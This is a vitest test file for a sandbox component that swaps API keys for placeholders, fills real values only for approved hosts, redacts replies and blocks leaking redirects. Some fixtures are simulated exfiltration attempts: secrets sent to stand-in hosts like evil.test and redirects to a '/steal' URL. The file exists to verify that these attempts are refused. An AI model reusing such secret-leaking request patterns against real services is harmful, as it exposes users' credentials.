import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SecretBoundary, SecretHostError, type CallSecret } from "@/lib/sandbox/secret-boundary";
import { guardedFetch } from "@/lib/sandbox/fetch-guard";
import * as sandbox from "@/lib/sandbox";
import { NewSecret } from "@/lib/contract/requests";

const KEY = "k3y/with+odd=chars";
const weather: CallSecret = { id: "s1", name: "WEATHER_KEY", value: KEY, hosts: ["api.weather.test"] };

describe("a call's secrets at the boundary", () => {
  it("gives the code a placeholder per name, new for every call", () => {
    const first = new SecretBoundary([weather]).placeholders().WEATHER_KEY;
    const second = new SecretBoundary([weather]).placeholders().WEATHER_KEY;
    expect(first).toMatch(/^TOOLSMITH_SECRET_WEATHER_KEY_[0-9a-f]{18}$/);
    expect(second).not.toBe(first);
    expect(first).not.toContain(KEY);
  });

  it("fills the value in the URL (percent-encoded), the headers, a Basic credential and the body, for its host and subdomains", () => {
    const boundary = new SecretBoundary([weather]);
    const placeholder = boundary.placeholders().WEATHER_KEY;
    const request = {
      url: `https://eu.api.weather.test/v1?appid=${placeholder}`,
      headers: {
        "x-api-key": placeholder,
        authorization: `Basic ${Buffer.from(`me:${placeholder}`).toString("base64")}`,
      },
      body: JSON.stringify({ key: placeholder }),
    };
    const filled = boundary.fill(request, "eu.api.weather.test");
    expect(filled.url).toBe(`https://eu.api.weather.test/v1?appid=${encodeURIComponent(KEY)}`);
    expect(filled.headers["x-api-key"]).toBe(KEY);
    expect(Buffer.from(filled.headers.authorization.slice(6), "base64").toString()).toBe(`me:${KEY}`);
    expect(filled.body).toBe(JSON.stringify({ key: KEY }));
    expect(boundary.usedIds()).toEqual(["s1"]);
    // Python sends bytes.
    const bytes = boundary.fill(
      { url: "https://api.weather.test/", headers: {}, body: Buffer.from(`k=${placeholder}`) },
      "api.weather.test",
    );
    expect(Buffer.concat(bytes.body as Buffer[])).toEqual(Buffer.from(`k=${KEY}`));
  });

  it("refuses a request that carries a placeholder to any other host, naming the secret and its hosts, and leaves others alone", () => {
    const boundary = new SecretBoundary([weather]);
    const placeholder = boundary.placeholders().WEATHER_KEY;
    for (const [host, request] of [
      ["evil.test", { url: `https://evil.test/?k=${placeholder}`, headers: {} }],
      ["api.weather.test.evil.test", { url: "https://api.weather.test.evil.test/", headers: { k: placeholder } }],
      ["weather.test", { url: "https://weather.test/", headers: {}, body: Buffer.from(placeholder) }],
      [
        "evil.test",
        {
          url: "https://evil.test/",
          headers: { authorization: `Basic ${Buffer.from(placeholder).toString("base64")}` },
        },
      ],
    ] as const) {
      expect(() => boundary.fill(request, host)).toThrow(SecretHostError);
      expect(() => boundary.fill(request, host)).toThrow(/WEATHER_KEY, which may only be sent to api\.weather\.test/);
    }
    expect(boundary.usedIds()).toEqual([]);
    const plain = { url: "https://evil.test/", headers: { a: "b" } };
    expect(boundary.fill(plain, "evil.test")).toBe(plain);
  });

  it("takes the value out of what comes back, in each of its forms", () => {
    const boundary = new SecretBoundary([weather]);
    const echoed = `raw ${KEY}, in a URL ${encodeURIComponent(KEY)}, in JSON ${JSON.stringify({ KEY })}`;
    const redacted = boundary.redact(echoed);
    expect(redacted).not.toContain(KEY);
    expect(redacted).not.toContain(encodeURIComponent(KEY));
    expect(redacted).toBe(
      'raw [secret WEATHER_KEY], in a URL [secret WEATHER_KEY], in JSON {"KEY":"[secret WEATHER_KEY]"}',
    );
    expect(boundary.redactBytes(Buffer.from(echoed)).toString()).toBe(redacted);
    const clean = Buffer.from("nothing here");
    expect(boundary.redactBytes(clean)).toBe(clean);
    // A reply cut at the size limit inside the value keeps none of it.
    expect(boundary.redactBytes(Buffer.from(`key: ${KEY.slice(0, 5)}`), true).toString()).toBe("key: ");
    expect(boundary.redactBytes(Buffer.from(`key: ${KEY.slice(0, 5)}`), false).toString()).toBe(
      `key: ${KEY.slice(0, 5)}`,
    );
  });

  it("accepts only names, values and hosts a person can act on", () => {
    const ok = NewSecret.safeParse({ name: "WEATHER_KEY", value: KEY, hosts: ["*.Weather.test", "1.2.3.4"] });
    expect(ok.success && ok.data.hosts).toEqual(["weather.test", "1.2.3.4"]);
    const problems = (body: unknown) => {
      const parsed = NewSecret.safeParse(body);
      return parsed.success ? [] : parsed.error.issues.map((issue) => issue.message);
    };
    expect(problems({ name: "weather-key", value: KEY, hosts: ["a.test"] })[0]).toMatch(/environment-variable name/);
    expect(problems({ name: "K", value: "short", hosts: ["a.test"] })[0]).toMatch(/at least 8/);
    expect(problems({ name: "K", value: "line\none-two", hosts: ["a.test"] })[0]).toMatch(/one line/);
    expect(problems({ name: "K", value: KEY, hosts: [] })[0]).toMatch(/at least one host/);
    expect(problems({ name: "K", value: KEY, hosts: ["https://a.test/x"] })[0]).toMatch(/without scheme/);
  });
});

describe("secrets through the guard and the sandboxes", () => {
  let server: http.Server;
  let port = 0;
  const seen: { url: string; key?: string }[] = [];
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      const target = new URL(req.url!, "http://x");
      const key = (req.headers["x-api-key"] as string | undefined) ?? target.searchParams.get("appid") ?? undefined;
      seen.push({ url: req.url!, key });
      if (target.pathname === "/redirect")
        return res.writeHead(302, { location: target.searchParams.get("to")! }).end();
      res.setHeader("x-echo", key ?? "");
      res.end(JSON.stringify({ ok: key === KEY, echoed: key }));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    server.closeAllConnections();
    server.close();
    await sandbox.pythonPool().close();
  });

  const limits = {
    timeoutMs: 2000,
    maxResponseBytes: 64 * 1024,
    maxRedirects: 3,
    maxRequestBytes: 1024,
    maxRequestsPerCall: 5,
  };
  // 127.0.0.1 stands for the API and 127.0.0.2 for another host (nothing listens there: a request to it fails).
  const guard = (secrets: SecretBoundary) => ({
    limits,
    secrets,
    isAllowed: (address: string) => address.startsWith("127."),
  });
  const api: CallSecret = { ...weather, hosts: ["127.0.0.1"] };

  it("sends the value to its host and shows the reply without it", async () => {
    const boundary = new SecretBoundary([api]);
    const { WEATHER_KEY } = boundary.placeholders();
    const reply = await guardedFetch(
      { url: `http://127.0.0.1:${port}/now`, headers: { "x-api-key": WEATHER_KEY } },
      guard(boundary),
    );
    expect(seen.at(-1)?.key).toBe(KEY);
    expect(JSON.parse(reply.body)).toEqual({ ok: true, echoed: "[secret WEATHER_KEY]" });
    expect(reply.headers["x-echo"]).toBe("[secret WEATHER_KEY]");
    expect(reply.bytes.toString()).not.toContain(KEY);
  });

  it("does not send a value over plain http to a host name", async () => {
    const boundary = new SecretBoundary([weather]);
    const { WEATHER_KEY } = boundary.placeholders();
    await expect(
      guardedFetch({ url: `http://api.weather.test:${port}/now?appid=${WEATHER_KEY}` }, guard(boundary)),
    ).rejects.toThrow(/over plain http.*Use https:\/\/api\.weather\.test/);
  });

  it("does not follow a redirect that would carry the value to another host: in a header, or echoed into the Location however often encoded", async () => {
    const boundary = new SecretBoundary([api]);
    const { WEATHER_KEY } = boundary.placeholders();
    const before = seen.length;
    const redirect = (to: string) => `http://127.0.0.1:${port}/redirect?to=${encodeURIComponent(to)}`;
    await expect(
      guardedFetch(
        { url: redirect(`http://127.0.0.2:${port}/steal`), headers: { "x-api-key": WEATHER_KEY } },
        guard(boundary),
      ),
    ).rejects.toThrow(/carries the secret WEATHER_KEY/);
    // The API itself puts the key into the next URL (an open redirect that keeps the query), once or twice encoded.
    for (const echoed of [
      `http://127.0.0.2:${port}/steal?appid=${WEATHER_KEY}`,
      `http://127.0.0.2:${port}/next?return=${encodeURIComponent(`http://x.test/?key=${encodeURIComponent(WEATHER_KEY)}`)}`,
    ])
      await expect(guardedFetch({ url: redirect(echoed), headers: {} }, guard(boundary))).rejects.toThrow(
        /A redirect to 127\.0\.0\.2 would carry the secret WEATHER_KEY/,
      );
    expect(seen.slice(before).map((request) => request.url.split("?")[0])).toEqual([
      "/redirect",
      "/redirect",
      "/redirect",
    ]);
  });

  it("takes a Basic credential it built out of a reply that echoes it", () => {
    const boundary = new SecretBoundary([api]);
    const header = `Basic ${Buffer.from(`me:${boundary.placeholders().WEATHER_KEY}`).toString("base64")}`;
    const sent = boundary.fill({ url: "http://127.0.0.1/", headers: { authorization: header } }, "127.0.0.1");
    expect(boundary.redact(`you sent ${sent.headers.authorization}`)).toBe("you sent Basic [secret WEATHER_KEY]");
    expect(boundary.redact(Buffer.from(KEY).toString("base64"))).toBe("[secret WEATHER_KEY]");
  });

  const network = { allowed_domains: ["127.0.0.1"] };
  const local = (name = "WEATHER_KEY"): CallSecret => ({ id: "s2", name, value: KEY, hosts: ["127.0.0.1"] });

  it.each([
    [
      "JavaScript reads secrets.NAME, its fetch",
      "javascript" as const,
      () => `async function run() {
      const reply = await fetch("http://127.0.0.1:${port}/now?appid=" + encodeURIComponent(secrets.WEATHER_KEY));
      return { held: secrets.WEATHER_KEY.slice(0, 17), body: await reply.json() };
    }`,
    ],
    [
      "Python reads secrets[NAME], requests",
      "python" as const,
      () => `import requests
def run(inputs):
    reply = requests.get("http://127.0.0.1:${port}/now", headers={"X-Api-Key": secrets["WEATHER_KEY"]})
    print(reply.text)
    return {"held": secrets["WEATHER_KEY"][:17], "body": reply.json()}`,
    ],
  ])("%s carries the value, and the reply comes back redacted", async (_, language, code) => {
    const outcome = await sandbox.runInSandbox("tool", { language, code: code() }, {}, undefined, {
      network,
      secrets: new SecretBoundary([local()]),
    });
    expect(outcome).toMatchObject({
      ok: true,
      output: { held: "TOOLSMITH_SECRET_", body: { ok: true, echoed: "[secret WEATHER_KEY]" } },
    });
    expect(JSON.stringify(outcome)).not.toContain(KEY);
  });

  it("JavaScript: a secret the tool did not declare is an error that says what to do", async () => {
    const code = `function run() { return secrets.OTHER_KEY; }`;
    const outcome = await sandbox.runInSandbox("tool", { language: "javascript", code }, {}, undefined, {
      secrets: new SecretBoundary([local()]),
    });
    expect(outcome.ok === false && outcome.error.message).toMatch(
      /OTHER_KEY is not among this tool's secrets \(WEATHER_KEY\)/,
    );
  });

  it("Python: a request to a host outside the secret's is refused, and an undeclared name says what to do", async () => {
    const code = `import requests
def run(inputs):
    try:
        requests.get("http://127.0.0.1:${port}/x", headers={"k": secrets["WEATHER_KEY"]})
    except requests.exceptions.ConnectionError as error:
        refused = str(error)
    try:
        secrets["OTHER_KEY"]
    except KeyError as error:
        missing = str(error)
    return {"refused": refused, "missing": missing}`;
    const elsewhere = { ...local(), hosts: ["api.weather.test"] };
    const outcome = await sandbox.runInSandbox("tool", { language: "python", code }, {}, undefined, {
      network,
      secrets: new SecretBoundary([elsewhere]),
    });
    expect(outcome.ok && outcome.output).toEqual({
      refused: expect.stringMatching(/carries the secret WEATHER_KEY, which may only be sent to api\.weather\.test/),
      missing: expect.stringMatching(/OTHER_KEY' is not among this tool's secrets \(WEATHER_KEY\)/),
    });
  });
});
